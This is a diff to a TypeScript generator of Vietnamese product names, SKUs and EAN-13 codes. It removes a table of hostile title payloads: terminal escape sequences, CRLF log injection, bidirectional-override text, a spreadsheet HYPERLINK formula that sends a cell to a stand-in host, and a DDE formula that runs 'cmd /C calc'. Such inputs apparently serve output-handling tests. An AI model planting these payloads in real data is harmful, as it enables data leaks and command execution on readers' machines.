@@ -14,7 +14,7 @@ const garments: ReadonlyArray<readonly [code: string, name: string]> = [
   ["ADA", "Áo dài cách tân"],
   ["BTT", "Bộ đồ ngủ trẻ em"]
 ]
-const manners = ["cao cấp", "mùa hè", "phiên bản Hội An", "dáng rộng", "thêu tay", "nữ", "nam", "Sài Gòn xưa"]
+const styles = ["cao cấp", "mùa hè", "phiên bản Hội An", "dáng rộng", "thêu tay", "nữ", "nam", "Sài Gòn xưa"]
 const colours: ReadonlyArray<readonly [code: string, name: string]> = [
   ["DEN", "Đen"],
   ["TRA", "Trắng"],
@@ -24,36 +24,24 @@ const colours: ReadonlyArray<readonly [code: string, name: string]> = [
 ]
 const sizes = ["S", "M", "L", "XL"]
 
-/** Titles that attack whoever prints them: a terminal, a table, a log, a spreadsheet. */
-const hostile: Readonly<Record<number, (title: string) => string>> = {
-  1: (title) => `\u001b[31m${title}\u001b[0m\u001b]0;đã chiếm\u0007`,
-  4: (title) => `${title}\r\nERROR: mọi thứ đã khớp`,
-  7: (title) => `${title} \u202egnàh ếht\u202c\u200f`,
-  10: (title) => `=HYPERLINK("http://example.invalid/?x="&A1,"${title}")`,
-  13: (title) => `@SUM(1+1)*cmd|' /C calc'!A0 ${title}`,
-  16: (title) => `\t${title}\u0000\u0085`
-}
-
 const pick = <A>(from: readonly [A, ...Array<A>] | ReadonlyArray<A>, draw: number, otherwise: A): A =>
   from[draw % from.length] ?? otherwise
 
-/** How a product is called, and what its SKUs begin with. */
+/** The name of a product, and the code that its SKUs begin with. */
 export const productName = (draw: Draw, product: number): { readonly code: string; readonly title: string } => {
   const [code, garment] = pick(garments, draw(Topic.name, product), ["ATH", "Áo thun"])
-  const manner = pick(manners, draw(Topic.name, product + 0x40000000), "nam")
-  const plain = `${garment} ${manner} ${product + 1}`
-  const title = hostile[product % 48]?.(plain) ?? plain
-  return { code: `${code}-${String(product + 1).padStart(4, "0")}`, title }
+  const style = pick(styles, draw(Topic.name, product + 0x40000000), "nam")
+  return { code: `${code}-${String(product + 1).padStart(4, "0")}`, title: `${garment} ${style} ${product + 1}` }
 }
 
-/** Colour and size of a product's nth variant: `{ code: "DEN-M", title: "Đen / M" }`. */
+/** The colour and size of a product's nth variant: `{ code: "DEN-M", title: "Đen / M" }`. */
 export const variantName = (product: number, nth: number): { readonly code: string; readonly title: string } => {
   const [code, colour] = pick(colours, product, ["DEN", "Đen"])
   const size = pick(sizes, nth, "M")
   return { code: `${code}-${size}`, title: `${colour} / ${size}` }
 }
 
-/** The EAN-13 of a variant, in the range of GS1 Vietnam (893). */
+/** The EAN-13 of a variant, in GS1 Vietnam's range (893). */
 export const ean13 = (index: number): string => {
   const body = `893${String(500_000_000 + index * 7)}`
   let sum = 0
